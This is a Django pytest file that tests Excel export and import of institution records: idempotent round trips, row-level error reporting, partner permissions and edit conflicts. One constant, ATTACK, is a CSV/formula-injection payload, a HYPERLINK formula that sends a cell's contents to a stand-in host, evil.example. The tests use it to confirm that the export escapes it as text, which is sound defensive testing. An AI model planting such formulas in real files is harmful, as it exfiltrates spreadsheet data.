import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from leizu.core.models import AuditEntry
from leizu.core.tests.fixtures import tasks_run_at_once
from leizu.institutions.models import Institution

# Imports run as background jobs: here each runs when queued, and the upload's answer is the
# import's page with its outcome.
pytestmark = pytest.mark.usefixtures("tasks_run_at_once")
__all__ = ["tasks_run_at_once"]


def _xlsx(rows: list[list]) -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return SimpleUploadedFile("institutions.xlsx", out.getvalue())


HEADER = ["kind", "country", "name_en", "name_ru", "national_id_scheme", "national_id", "website"]


def test_export_then_import_changes_nothing(coordinator):
    exported = coordinator.get("/institutions/export.xlsx")
    assert exported.status_code == 200
    wb = load_workbook(io.BytesIO(exported.content))
    rows = list(wb.active.iter_rows(values_only=True))
    assert rows[0][:3] == ("id", "kind", "country")
    assert len(rows) == 1 + Institution.objects.count()
    audit_before = AuditEntry.objects.filter(action="institution.update").count()
    response = coordinator.post(
        "/institutions/import/",
        {"file": SimpleUploadedFile("again.xlsx", exported.content)},
        HTTP_ACCEPT_LANGUAGE="en",
        follow=True,
    )
    assert response.status_code == 200
    assert "0 created, 0 updated, 8 unchanged" in response.content.decode()
    assert AuditEntry.objects.filter(action="institution.update").count() == audit_before


def test_importing_the_same_file_twice_adds_nothing_the_second_time(coordinator):
    rows = [
        HEADER,
        ["company", "KZ", "Aral Denim LLP", "ТОО «Арал Деним»", "kz_bin", "201140000404", ""],
        ["college", "UZ", "Termez Technical School of Light Industry", "", "", "", ""],
    ]
    first = coordinator.post(
        "/institutions/import/", {"file": _xlsx(rows)}, HTTP_ACCEPT_LANGUAGE="en", follow=True
    )
    assert "2 created, 0 updated, 0 unchanged" in first.content.decode()
    count = Institution.objects.count()
    second = coordinator.post(
        "/institutions/import/", {"file": _xlsx(rows)}, HTTP_ACCEPT_LANGUAGE="en", follow=True
    )
    assert "0 created, 0 updated, 2 unchanged" in second.content.decode()
    assert Institution.objects.count() == count


def test_one_bad_row_writes_nothing_and_names_row_column_and_reason(coordinator):
    count = Institution.objects.count()
    audit = AuditEntry.objects.count()
    rows = [
        HEADER,
        ["company", "KZ", "Aral Denim LLP", "", "kz_bin", "201140000404", ""],
        ["college", "UZ", "Termez Technical School", "", "", "", "not a web address"],
        ["school", "XX", "", "", "", "", ""],
    ]
    response = coordinator.post(
        "/institutions/import/", {"file": _xlsx(rows)}, HTTP_ACCEPT_LANGUAGE="en", follow=True
    )
    body = response.content.decode()
    assert "Nothing was saved" in body
    assert (
        "<td>3</td><td>website</td>"
        "<td>Enter a web address that starts with http:// or https://.</td>" in body
    )
    assert "<td>4</td><td>kind</td>" in body
    assert "<td>4</td><td>country</td>" in body
    assert "<td>4</td><td>name_en</td>" in body
    assert Institution.objects.count() == count
    assert AuditEntry.objects.count() == audit


def test_ids_that_only_look_like_numbers_are_answered_as_unknown(coordinator):
    header = ["id", *HEADER]
    rows = [
        header,
        ["²", "college", "KZ", "Superscript College", "", "", "", ""],
        ["9" * 25, "college", "KZ", "Huge Id College", "", "", "", ""],
    ]
    response = coordinator.post(
        "/institutions/import/", {"file": _xlsx(rows)}, HTTP_ACCEPT_LANGUAGE="en", follow=True
    )
    body = response.content.decode()
    assert "<td>2</td><td>id</td><td>No institution has the id ².</td>" in body
    assert f"<td>3</td><td>id</td><td>No institution has the id {'9' * 25}.</td>" in body


def test_a_file_that_is_not_a_workbook_is_refused_clearly(coordinator):
    response = coordinator.post(
        "/institutions/import/",
        {"file": SimpleUploadedFile("x.xlsx", b"name,country\nA,KZ\n")},
        HTTP_ACCEPT_LANGUAGE="en",
        follow=True,
    )
    assert "The file is not an Excel workbook (.xlsx)." in response.content.decode()


def test_partners_export_only_what_they_see_and_cannot_import(clients):
    exported = clients["partner_a"].get("/institutions/export.xlsx")
    wb = load_workbook(io.BytesIO(exported.content))
    names = [row[4] for row in wb.active.iter_rows(min_row=2, values_only=True)]
    assert "Akzhol Industrial Technology College" in names
    assert not any("Oltinsoy" in (n or "") for n in names)
    assert clients["partner_a"].get("/institutions/import/").status_code == 403
    assert AuditEntry.objects.filter(action="institution.export").exists()


ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _export_rows(client) -> list[tuple]:
    exported = client.get("/institutions/export.xlsx")
    return list(load_workbook(io.BytesIO(exported.content)).active.iter_rows())


def test_a_name_a_partner_sets_is_exported_as_text_not_as_a_formula(world, actors, coordinator):
    from leizu.institutions import services

    kz1 = world["institutions"]["kz1"]
    services.institution_update(
        institution=kz1,
        by=actors["partner_a"],
        data={"name": {**kz1.name, "en": ATTACK}, "national_id": "-17", "schac_code": "@SUM(1)"},
        version=None,
    )
    rows = _export_rows(coordinator)
    header = [c.value for c in rows[0]]
    row = next(r for r in rows if r[0].value == kz1.pk)
    cells = dict(zip(header, row, strict=True))
    assert cells["name_en"].data_type == "s"
    assert cells["name_en"].value == "'" + ATTACK
    assert cells["national_id"].value == "'-17"
    assert cells["schac_code"].value == "'@SUM(1)"
    assert not any(c.data_type == "f" for r in rows for c in r)
    assert cells["id"].data_type == "n"  # numbers stay numbers


def test_importing_an_export_with_quoted_names_gives_the_names_back_unchanged(
    world, actors, coordinator
):
    from leizu.institutions import services

    kz1, uz1 = world["institutions"]["kz1"], world["institutions"]["uz1"]
    services.institution_update(
        institution=kz1, by=actors["partner_a"], data={"name": {"en": ATTACK}}, version=None
    )
    services.institution_update(
        institution=uz1, by=actors["partner_b"], data={"name": {"en": "'quoted"}}, version=None
    )
    exported = coordinator.get("/institutions/export.xlsx")
    response = coordinator.post(
        "/institutions/import/",
        {"file": SimpleUploadedFile("again.xlsx", exported.content)},
        HTTP_ACCEPT_LANGUAGE="en",
        follow=True,
    )
    assert "0 created, 0 updated, 8 unchanged" in response.content.decode()
    kz1.refresh_from_db()
    uz1.refresh_from_db()
    assert (kz1.name["en"], uz1.name["en"]) == (ATTACK, "'quoted")


def test_a_zip_without_a_sheet_is_refused_clearly(coordinator):
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
    response = coordinator.post(
        "/institutions/import/",
        {"file": SimpleUploadedFile("x.xlsx", empty.getvalue())},
        HTTP_ACCEPT_LANGUAGE="en",
        follow=True,
    )
    assert response.status_code == 200
    assert "The workbook holds no sheet." in response.content.decode()


def test_an_institution_changed_while_the_file_was_checked_makes_the_import_save_nothing(
    world, actors
):
    from leizu.core.errors import EditConflict
    from leizu.core.imports import ChangeSet
    from leizu.institutions import services

    kz1 = Institution.objects.get(pk=world["institutions"]["kz1"].pk)
    changes = ChangeSet(by=actors["coordinator"])
    new = services.institution_stage_create(
        changes=changes,
        by=actors["coordinator"],
        data={"kind": "company", "country": "KZ", "name": {"en": "Staged LLP"}},
    )
    assert services.institution_stage_update(
        changes=changes, institution=kz1, by=actors["coordinator"], data={"erasmus_code": "KZ1"}
    )
    # Meanwhile a partner edits the same institution.
    services.institution_update(
        institution=Institution.objects.get(pk=kz1.pk),
        by=actors["partner_a"],
        data={"schac_code": "akzhol.kz"},
        version=None,
    )
    audit = AuditEntry.objects.count()
    with pytest.raises(EditConflict):
        changes.write()
    assert not Institution.objects.filter(name__en="Staged LLP").exists()
    assert Institution.objects.get(pk=kz1.pk).erasmus_code == ""
    assert AuditEntry.objects.count() == audit
    assert new.pk is not None  # its id was reserved, and is simply not used


def test_an_institution_created_meanwhile_by_someone_else_takes_nothing_from_the_import(
    world, actors
):
    from leizu.core.imports import ChangeSet
    from leizu.institutions import services

    changes = ChangeSet(by=actors["coordinator"])
    services.institution_stage_create(
        changes=changes,
        by=actors["coordinator"],
        data={"kind": "company", "country": "KZ", "name": {"en": "Staged LLP"}},
    )
    real = changes._plan  # the ids are reserved when the write is planned
    planned = []

    def plan_then_someone_creates():
        plan = real()
        if not planned:
            planned.append(plan)
            services.institution_create(
                by=actors["coordinator"],
                data={"kind": "college", "country": "UZ", "name": {"en": "Meanwhile College"}},
            )
        return plan

    changes._plan = plan_then_someone_creates  # type: ignore[method-assign]
    changes.write()
    staged = Institution.objects.get(name__en="Staged LLP")
    other = Institution.objects.get(name__en="Meanwhile College")
    assert staged.pk != other.pk
    entry = AuditEntry.objects.get(action="institution.create", object_id=str(staged.pk))
    assert entry.after["name"] == {"en": "Staged LLP"}
